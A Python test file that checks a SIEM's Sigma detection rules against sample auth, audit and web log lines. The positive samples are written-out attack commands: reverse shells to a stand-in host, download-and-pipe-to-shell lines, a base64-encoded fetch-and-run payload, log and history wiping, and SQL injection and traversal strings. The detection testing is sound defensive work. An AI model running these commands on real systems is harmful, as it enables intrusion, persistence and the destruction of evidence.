"""The 34 Sigma rules that come with Aurora: well formed, served by the engine, and right about what they are for.

Each rule has lines that it must match and lines of the same kind that it must leave alone. The lines go through the
real parsers and the real engine. Owns the examples; the recorded intrusion is test_samples' affair.
"""

from __future__ import annotations

import re
import uuid
from collections import Counter
from datetime import UTC, datetime
from functools import cache
from pathlib import Path

import pytest
from sigma.collection import SigmaCollection
from sigma.rule import SigmaRule
from sigma.validation import SigmaValidator
from sigma.validators.core import validators

from services.siem.detections.engine import CompiledRule, Engine, compile_rule
from services.siem.event import Event
from services.siem.logs.parsers import parse_items
from tests.unit.windows_rule_examples import WINDOWS

RULES = Path(__file__).parents[2] / "services/siem/detections/rules"
FILES = sorted(RULES.glob("*.yml"))
RECEIVED = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)
TACTICS = {
    "reconnaissance",
    "initial-access",
    "execution",
    "persistence",
    "privilege-escalation",
    "stealth",
    "defense-impairment",
    "credential-access",
    "discovery",
    "command-and-control",
    "lateral-movement",
}


def auth(program: str, message: str) -> list[str]:
    """One line of auth.log."""
    return [f"2026-11-22T02:00:00.000000+00:00 web01 {program}: {message}"]


def web(target: str, agent: str = "Mozilla/5.0", status: int = 404) -> list[str]:
    """One line of an access log."""
    return [f'127.0.66.66 - - [22/Nov/2026:02:00:00 +0000] "GET {target} HTTP/1.1" {status} 9 "-" "{agent}"']


def execve(exe: str, *args: str) -> list[str]:
    """The two audit records of a program's start."""
    event = "msg=audit(1795312800.000:77):"
    words = " ".join(f"a{number}={word.encode().hex().upper()}" for number, word in enumerate(args))
    return [
        f'type=SYSCALL {event} arch=c000003e syscall=59 success=yes exit=0 pid=9 ppid=8 auid=1000 uid=1000 exe="{exe}"',
        f"type=EXECVE {event} argc={len(args)} {words}",
    ]


def shell(command: str) -> list[str]:
    """A command line given to bash."""
    return execve("/usr/bin/bash", "bash", "-c", command)


def opened(exe: str, key: str) -> list[str]:
    """An audited file access under a key of the audit policy."""
    return [
        "type=SYSCALL msg=audit(1795312800.000:78): arch=c000003e syscall=257 success=yes exit=3 pid=9 ppid=8 "
        f'auid=1000 uid=0 exe="{exe}" key="{key}"'
    ]


PAYLOAD = "Y3VybCBodHRwOi8vMTI3LjAuNjYuNjYvYXxzaAo="

#: rule -> (what it must match, what it must not)
EXAMPLES: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "linux_sshd_invalid_user": (
        [auth("sshd[7]", "Invalid user oracle from 127.0.66.66 port 4242")],
        [auth("sshd[7]", "Failed password for bob from 127.0.10.6 port 4242 ssh2")],
    ),
    "linux_sshd_too_many_failures": (
        [
            auth("sshd[7]", "error: maximum authentication attempts exceeded for root from 127.0.66.66 port 1 ssh2"),
            auth("sshd[7]", "Disconnecting invalid user git 127.0.66.66 port 1: Too many authentication failures"),
        ],
        [auth("sshd[7]", "Disconnected from user bob 127.0.10.6 port 4242")],
    ),
    "linux_sshd_root_password_failed": (
        [auth("sshd[7]", "Failed password for root from 127.0.66.66 port 4242 ssh2")],
        [auth("sshd[7]", "Accepted publickey for root from 127.0.10.5 port 4242 ssh2: RSA SHA256:abc")],
    ),
    "linux_sudo_shell_by_service_account": (
        [auth("sudo[7]", "www-data : PWD=/srv ; USER=root ; COMMAND=/bin/bash -i")],
        [
            auth("sudo[7]", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"),
            auth("sudo[7]", "www-data : PWD=/srv ; USER=root ; COMMAND=/usr/sbin/service nginx reload"),
        ],
    ),
    "linux_privileged_account_made": (
        [
            execve("/usr/sbin/useradd", "useradd", "-o", "-u", "0", "-M", "toor"),
            execve("/usr/sbin/usermod", "usermod", "-aG", "sudo", "carol"),
            execve("/usr/bin/gpasswd", "gpasswd", "-a", "carol", "wheel"),
            execve("/usr/sbin/adduser", "adduser", "carol", "sudo"),
        ],
        [
            execve("/usr/sbin/useradd", "useradd", "--create-home", "--shell", "/bin/bash", "carol"),
            execve("/usr/sbin/usermod", "usermod", "-aG", "docker", "carol"),
            execve("/usr/sbin/useradd", "useradd", "-u", "1005", "carol"),
        ],
    ),
    "linux_download_piped_to_shell": (
        [
            shell("curl -fsS http://127.0.66.66:8000/a.sh | sh"),
            shell("wget -qO- https://example.org/x|sudo bash -s"),
            shell("bash <(curl -s https://example.org/x)"),
            shell("curl http://example.org/x | python3 -"),
        ],
        [
            shell("curl -s http://127.0.0.1/status.json | python3 -m json.tool"),
            shell("curl -fsS -o /dev/null http://127.0.0.1/health"),
            shell("curl -s http://127.0.0.1/a | sha256sum"),
        ],
    ),
    "linux_base64_piped_to_shell": (
        [
            shell(f"echo {PAYLOAD} | base64 -d | bash"),
            shell(f"base64 --decode <<< {PAYLOAD} | sudo sh"),
            shell(f'eval "$(echo {PAYLOAD} | base64 -d)"'),
        ],
        [
            shell(f"echo {PAYLOAD} | base64 -d"),
            shell("base64 -d status.b64 > status.json"),
            shell("head -c 24 /dev/urandom | base64 | tee secret"),
        ],
    ),
    "linux_inline_interpreter_socket": (
        [
            execve("/usr/bin/python3.11", "python3", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"),
            execve("/usr/bin/perl", "perl", "-e", 'use Socket;exec("/bin/sh -i");'),
        ],
        [
            execve("/usr/bin/python3.11", "python3", "-c", "import json; print(json.dumps({}))"),
            execve("/usr/bin/python3.11", "python3", "-c", "import socket; print(socket.gethostname())"),
        ],
    ),
    "linux_reverse_shell": (
        [
            shell("bash -i >& /dev/tcp/127.0.66.66/4444 0>&1"),
            execve("/usr/bin/nc.traditional", "nc", "-w", "3", "-e", "/bin/sh", "127.0.66.66", "4444"),
            shell("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.66.66 4444 > /tmp/f"),
        ],
        [
            execve("/usr/bin/nc.traditional", "nc", "-z", "127.0.0.1", "80"),
            shell("timeout 1 cat < /dev/tcp/127.0.0.1/22"),
        ],
    ),
    "linux_crontab_replaced_from_file": (
        [
            execve("/usr/bin/crontab", "crontab", "-"),
            execve("/usr/bin/crontab", "crontab", "/tmp/.X11/c"),
            execve("/usr/bin/crontab", "crontab", "-u", "www-data", "/dev/shm/c"),
        ],
        [
            execve("/usr/bin/crontab", "crontab", "-l"),
            execve("/usr/bin/crontab", "crontab", "-e"),
            execve("/usr/bin/crontab", "crontab", "/home/alice/my.cron"),
            execve("/usr/bin/nano", "/bin/nano", "/tmp/crontab.aB3/crontab"),
        ],
    ),
    "linux_shadow_read": (
        [opened("/usr/bin/cat", "shadow-read"), opened("/usr/bin/python3.11", "shadow-read")],
        [opened("/usr/bin/sudo", "shadow-read"), opened("/usr/sbin/cron", "shadow-read"), opened("/usr/bin/cat", "x")],
    ),
    "linux_shell_history_cleared": (
        [
            execve("/usr/bin/rm", "rm", "-f", "/home/deploy/.bash_history"),
            execve("/usr/bin/ln", "ln", "-sf", "/dev/null", "/root/.bash_history"),
            execve("/usr/bin/cp", "cp", "/dev/null", "/root/.bash_history"),
        ],
        [
            execve("/usr/bin/cp", "cp", "/root/.bash_history", "/evidence/"),
            execve("/usr/bin/rm", "rm", "products.html"),
        ],
    ),
    "linux_system_log_destroyed": (
        [
            execve("/usr/bin/truncate", "truncate", "-s", "0", "/var/log/auth.log"),
            execve("/usr/bin/shred", "shred", "-u", "/var/log/wtmp"),
            shell("cat /dev/null > /var/log/syslog"),
        ],
        [
            execve("/usr/bin/rm", "rm", "/var/log/nginx/access.log.9.gz"),
            execve("/usr/bin/tail", "tail", "/var/log/auth.log"),
            shell("echo done >> /var/log/backup.log"),
        ],
    ),
    "linux_authorized_keys_changed": (
        [opened("/usr/bin/bash", "ssh-keys")],
        [opened("/usr/bin/ssh-keygen", "ssh-keys"), opened("/usr/bin/bash", "cron")],
    ),
    "linux_setuid_bit_set": (
        [
            execve("/usr/bin/chmod", "chmod", "u+s", "/tmp/.X11/bash"),
            execve("/usr/bin/chmod", "chmod", "4755", "/usr/local/bin/x"),
            execve("/usr/bin/chmod", "chmod", "+s", "/tmp/sh"),
        ],
        [
            execve("/usr/bin/chmod", "chmod", "0755", "bin/backup.sh"),
            execve("/usr/bin/chmod", "chmod", "1777", "/srv/tmp"),
            execve("/usr/bin/chmod", "chmod", "u+x", "bin/sync"),
        ],
    ),
    "linux_kernel_module_loaded_by_hand": (
        [
            execve("/usr/bin/kmod", "insmod", "/tmp/rk.ko"),
            execve("/sbin/insmod", "insmod", "rk.ko"),
            execve("/usr/bin/kmod", "modprobe", "-d", "/tmp/mods", "rk"),
        ],
        [execve("/usr/bin/kmod", "modprobe", "nf_tables"), execve("/usr/bin/kmod", "lsmod")],
    ),
    "linux_program_put_in_temporary_folder": (
        [
            execve("/usr/bin/wget", "wget", "-q", "-O", "/tmp/.kworker", "http://127.0.66.66/a"),
            execve("/usr/bin/curl", "curl", "-so", "/dev/shm/x", "http://127.0.66.66/a"),
            execve("/usr/bin/chmod", "chmod", "+x", "/tmp/.kworker"),
            execve("/usr/bin/chmod", "chmod", "755", "/var/tmp/x"),
        ],
        [
            execve("/usr/bin/wget", "wget", "-q", "-O", "releases/site.css", "http://127.0.0.1/site.css"),
            execve("/usr/bin/chmod", "chmod", "+x", "bin/backup.sh"),
            execve("/usr/bin/chmod", "chmod", "644", "/tmp/notes.txt"),
        ],
    ),
    "linux_discovery_in_one_command": (
        [shell("id; uname -a; cat /etc/passwd | wc -l; whoami"), shell("whoami && hostname && ifconfig -a")],
        [shell("uname -a"), shell("id; date"), shell("mkdir -p releases && date -u > releases/built")],
    ),
    "web_scanner_user_agent": (
        [web("/", "Mozilla/5.00 (Nikto/2.1.6)"), web("/", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        [web("/", "curl/7.88.1"), web("/", "Mozilla/5.0 (compatible; Googlebot/2.1)")],
    ),
    "web_path_traversal": (
        [
            web("/../../../../etc/passwd"),
            web("/static/..%2f..%2f..%2fetc%2fhosts"),
            web("/download?file=....//....//etc/hosts"),
            web("/index.php?page=php://filter/resource=index"),
            web("/search?q=${jndi:ldap://127.0.66.66/a}"),
        ],
        [web("/docs/../index.html"), web("/search?q=salt...and...wind"), web("/a..b/c")],
    ),
    "web_sql_injection": (
        [
            web("/search?q=%27+OR+%271%27%3D%271"),
            web("/search?q=1%27+UNION+SELECT+NULL,NULL--+-"),
            web("/search?q=1%20AND%20SLEEP(5)"),
            web("/search?q=1;WAITFOR+DELAY+%270:0:5%27--"),
            web("/search?q=%27%3B+DROP+TABLE+orders--"),
        ],
        [
            web("/search?q=select+a+plant+from+the+union+street+shop"),
            web("/search?q=rock%27n%27roses"),
            web("/search?q=credit+union+or+bank"),
            web("/search?q=o%27reilly+and+sons"),
        ],
    ),
    "web_probe_for_shells_and_secrets": (
        [web("/c99.php"), web("/uploads/x.php?cmd=id"), web("/.env"), web("/.git/config"), web("/server-status")],
        [web("/environment.html"), web("/shell-beach.html"), web("/list.php?c=lsd-lamps"), web("/.well-known/x")],
    ),
    **WINDOWS,
}

CASES_MATCHED = [(name, lines) for name, (matched, _) in EXAMPLES.items() for lines in matched]
CASES_SPARED = [(name, lines) for name, (_, spared) in EXAMPLES.items() for lines in spared]


@cache
def rule(name: str) -> CompiledRule:
    return compile_rule((RULES / f"{name}.yml").read_text())


def matches(name: str, lines: list[str]) -> bool:
    """Whether the rule matches any event of the lines; all lines must be taken by the parsers."""
    engine = Engine([rule(name)])
    results = parse_items(lines, source="test", received_at=RECEIVED)
    events = [result for result in results if isinstance(result, Event)]
    assert len(events) == len(lines)
    return any(engine.evaluate(event) for event in events)


def test_there_are_33_rules_and_each_has_examples() -> None:
    assert len(FILES) == 34
    assert {path.stem for path in FILES} == set(EXAMPLES)
    assert all(matched and spared for matched, spared in EXAMPLES.values())


@pytest.mark.parametrize(("name", "lines"), CASES_MATCHED, ids=lambda value: value if isinstance(value, str) else "")
def test_a_rule_matches_what_it_is_for(name: str, lines: list[str]) -> None:
    assert matches(name, lines)


@pytest.mark.parametrize(("name", "lines"), CASES_SPARED, ids=lambda value: value if isinstance(value, str) else "")
def test_a_rule_spares_the_harmless_of_its_kind(name: str, lines: list[str]) -> None:
    assert not matches(name, lines)


def test_pysigma_parses_every_rule_and_finds_nothing_to_improve() -> None:
    collection = SigmaCollection.load_ruleset([RULES], collect_errors=True)
    rules = [found for found in collection.rules if isinstance(found, SigmaRule)]
    assert len(rules) == len(FILES)
    assert [error for found in rules for error in found.errors] == []
    # The validators of tags against ATT&CK, CAR and D3FEND download those catalogues; tests stay on this machine.
    offline = [check for name, check in validators.items() if name not in {"attacktag", "cartag", "d3_fendtag"}]
    assert [str(issue) for issue in SigmaValidator(offline).validate_rules(iter(rules))] == []


def test_the_engine_serves_every_rule() -> None:
    assert {path.stem: problem for path in FILES if (problem := rule(path.stem).problem)} == {}


def test_every_rule_names_itself_its_author_and_its_techniques() -> None:
    ids = Counter(rule(path.stem).id for path in FILES)
    assert ids.most_common(1)[0][1] == 1
    for path in FILES:
        compiled = rule(path.stem)
        tags = {tag.removeprefix("attack.") for tag in compiled.tags}
        techniques = {tag for tag in tags if re.fullmatch(r"t\d{4}(\.\d{3})?", tag)}
        assert uuid.UUID(compiled.id).version == 4
        assert compiled.author == "Aurora"
        assert compiled.description
        assert techniques, path.name
        assert tags - techniques, path.name
        assert tags - techniques <= TACTICS, path.name
